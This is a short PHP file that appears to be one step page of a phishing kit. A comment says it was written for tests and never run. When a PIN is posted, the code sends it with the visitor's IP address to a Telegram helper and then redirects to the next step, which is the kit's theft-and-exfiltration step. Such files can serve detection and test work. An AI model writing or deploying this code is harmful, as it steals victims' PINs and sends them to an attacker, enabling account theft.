<?php
// a kit's step page: its chat helper lives in another file
// (written for the tests, never run)
require 'inc/telegram.php';
if (isset($_POST['pin'])) {
    sendTG("PIN: " . $_POST['pin'] . " from " . $_SERVER['REMOTE_ADDR']);
    header('Location: next.html');
}
